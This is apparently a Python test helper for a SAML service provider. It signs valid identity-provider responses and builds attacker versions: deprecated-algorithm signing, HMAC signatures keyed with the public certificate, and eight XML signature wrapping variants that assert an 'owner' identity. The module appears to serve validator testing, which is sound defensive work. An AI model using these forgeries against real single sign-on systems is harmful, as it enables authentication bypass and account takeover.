"""Answers of a SAML provider made by hand, with its key: right ones, and those that an attacker would make of them."""

import base64
import copy
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat, PublicFormat
from cryptography.x509.oid import NameOID
from lxml import etree
from signxml import XMLSigner
from signxml.algorithms import SignatureMethod

ASSERTION = "urn:oasis:names:tc:SAML:2.0:assertion"
PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol"
SIGNATURE = "http://www.w3.org/2000/09/xmldsig#"
PERSISTENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"
EMAIL_CLAIM = "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress"


@dataclass
class Pair:
    """A provider's key with its certificate."""

    key: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey
    certificate: x509.Certificate

    @property
    def text(self) -> str:
        """The certificate as metadata has it."""
        return base64.b64encode(self.certificate.public_bytes(Encoding.DER)).decode()

    @property
    def public(self) -> str:
        return self.key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo).decode()

    @property
    def pem(self) -> dict[str, str]:
        key = self.key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()).decode()
        return {"key": key, "cert": self.certificate.public_bytes(Encoding.PEM).decode()}


def new_pair(*, bits: int = 2048, curve: ec.EllipticCurve | None = None, days: int = 10) -> Pair:
    """`days`: until the certificate expires; negative: since."""
    key = ec.generate_private_key(curve) if curve else rsa.generate_private_key(65537, bits)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "idp")])
    end = datetime.now(UTC) + timedelta(days=days)
    builder = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
    builder = builder.serial_number(1).not_valid_before(end - timedelta(days=100)).not_valid_after(end)
    return Pair(key, builder.sign(key, hashes.SHA256()))


def stamp(seconds: float = 0) -> str:
    return f"{datetime.now(UTC) + timedelta(seconds=seconds):%Y-%m-%dT%H:%M:%SZ}"


@dataclass
class Said:
    """What an answer says; each may be changed."""

    issuer: str = "https://idp.example/metadata"
    audience: str = "https://sfp.example/metadata"
    recipient: str = "https://sfp.example/acs"
    request_id: str = "_request"
    name: str = "id-of-ann"
    email: str = "ann@acme.example"
    status: str = "urn:oasis:names:tc:SAML:2.0:status:Success"
    more: str = ""
    conditions: str = ""
    assertion_id: str = "_assertion"
    changes: dict[str, str] = field(default_factory=dict)

    def assertion(self) -> str:
        return (
            f'<saml:Assertion xmlns:saml="{ASSERTION}" Version="2.0" ID="{self.assertion_id}" IssueInstant="{stamp()}">'
            f"<saml:Issuer>{self.issuer}</saml:Issuer>"
            f'<saml:Subject><saml:NameID Format="{PERSISTENT}">{self.name}</saml:NameID>'
            '<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData'
            f' NotOnOrAfter="{stamp(300)}" Recipient="{self.recipient}" InResponseTo="{self.request_id}"/>'
            "</saml:SubjectConfirmation></saml:Subject>"
            f'<saml:Conditions NotBefore="{stamp(-5)}" NotOnOrAfter="{stamp(300)}"><saml:AudienceRestriction>'
            f"<saml:Audience>{self.audience}</saml:Audience></saml:AudienceRestriction>{self.conditions}</saml:Conditions>"
            f'<saml:AuthnStatement AuthnInstant="{stamp()}"/>'
            f'<saml:AttributeStatement><saml:Attribute Name="{EMAIL_CLAIM}"><saml:AttributeValue>{self.email}'
            f"</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>{self.more}</saml:Assertion>"
        )

    def response(self, assertion: str) -> bytes:
        return (
            f'<samlp:Response xmlns:samlp="{PROTOCOL}" xmlns:xs="http://www.w3.org/2001/XMLSchema" ID="_response"'
            f' Version="2.0" IssueInstant="{stamp()}" InResponseTo="{self.request_id}" Destination="{self.recipient}">'
            f'<saml:Issuer xmlns:saml="{ASSERTION}">{self.issuer}</saml:Issuer>'
            f'<samlp:Status><samlp:StatusCode Value="{self.status}"/></samlp:Status>{assertion}</samlp:Response>'
        ).encode()

    def signed(self, pair: Pair, **how: object) -> bytes:
        """The answer with its assertion signed."""
        return self.response(signed(self.assertion(), pair, self.assertion_id, **how))


class Weak(XMLSigner):
    """Signs with whatever it is told to: providers of long ago do."""

    def check_deprecated_methods(self) -> None:
        pass


def signed(
    text: str,
    pair: Pair,
    name: str,
    *,
    algorithm: str = "",
    digest: str = "sha256",
    c14n: str = "http://www.w3.org/2001/10/xml-exc-c14n#",
    reference: str | None = None,
) -> str:
    """An element with a signature about itself, behind its first child as SAML wants it."""
    kind = "ecdsa" if isinstance(pair.key, ec.EllipticCurvePrivateKey) else "rsa"
    method = SignatureMethod.from_fragment(algorithm or f"{kind}-sha256")
    signer = Weak(signature_algorithm=method, digest_algorithm=digest, c14n_algorithm=c14n)
    element = etree.fromstring(text)
    done = signer.sign(
        element,
        key=pair.key,
        cert=[pair.certificate],
        reference_uri=f"#{name}" if reference is None else reference,
        id_attribute="ID",
    )
    signature = done.find(f"{{{SIGNATURE}}}Signature")
    done.remove(signature)
    done.insert(1, signature)
    return etree.tostring(done).decode()


def hmac_signed(said: Said, pair: Pair) -> bytes:
    """Signed with HMAC, whose key is what everybody knows: the certificate."""
    signer = XMLSigner(
        signature_algorithm=SignatureMethod.HMAC_SHA256, c14n_algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"
    )
    key = pair.certificate.public_bytes(Encoding.PEM)
    done = signer.sign(etree.fromstring(said.assertion()), key=key, reference_uri="#_assertion", id_attribute="ID")
    signature = done.find(f"{{{SIGNATURE}}}Signature")
    done.remove(signature)
    done.insert(1, signature)
    return said.response(etree.tostring(done).decode())


def evil(assertion: etree._Element, *, name: str | None = "_evil") -> etree._Element:
    """A copy that says to be the owner; without a signature, with another ID unless `name` is None."""
    made = copy.deepcopy(assertion)
    signature = made.find(f"{{{SIGNATURE}}}Signature")
    if signature is not None:
        made.remove(signature)
    if name is not None:
        made.set("ID", name)
    for element in made.iter(f"{{{ASSERTION}}}NameID", f"{{{ASSERTION}}}AttributeValue"):
        element.text = "owner@acme.example"
    return made


def wrapped(data: bytes, variant: int) -> bytes:
    """Signature wrapping 1 to 8, as SAML Raider and the paper "On Breaking SAML" count them."""
    root = etree.fromstring(data)
    original = root.find(f"{{{ASSERTION}}}Assertion")
    signature = original.find(f"{{{SIGNATURE}}}Signature")
    bad = evil(original)
    match variant:
        case 1 | 2:  # about signed responses: the signed one goes into, or behind, the signature of a forged one
            forged = etree.fromstring(data)
            old = forged.find(f"{{{ASSERTION}}}Assertion")
            forged.replace(old, bad)
            forged.set("ID", "_forged")
            bad.insert(1, copy.deepcopy(signature))
            holder = bad.find(f"{{{SIGNATURE}}}Signature")
            (holder if variant == 1 else forged).append(root)
            return etree.tostring(forged)
        case 3:  # before the signed one
            root.insert(root.index(original), bad)
        case 4:  # around it
            root.replace(original, bad)
            bad.append(original)
        case 5:  # has its signature, which is about the one that stands behind
            original.remove(signature)
            bad.insert(1, signature)
            root.insert(root.index(original), bad)
        case 6:  # has its signature, with the signed one inside of that
            original.remove(signature)
            root.replace(original, bad)
            bad.insert(1, signature)
            signature.append(original)
        case 7:  # in Extensions, where some schemas do not look
            extensions = etree.Element(f"{{{PROTOCOL}}}Extensions")
            extensions.append(bad)
            root.insert(0, extensions)
        case _:  # has the signature, with the signed one in an Object
            original.remove(signature)
            root.replace(original, bad)
            bad.insert(1, signature)
            holder = etree.SubElement(signature, f"{{{SIGNATURE}}}Object")
            holder.append(original)
    return etree.tostring(root)
